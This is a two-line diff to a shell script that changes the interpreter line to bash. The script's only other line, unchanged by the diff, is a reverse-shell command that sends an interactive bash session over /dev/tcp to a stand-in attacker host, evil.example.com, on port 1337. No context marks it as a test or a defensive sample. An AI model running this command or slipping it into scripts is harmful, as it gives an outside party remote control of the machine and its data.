@@ -1,2 +1,2 @@
-#!/bin/sh
+#!/usr/bin/env bash
 sh -c "bash -i >& /dev/tcp/evil.example.com/1337 0>&1"
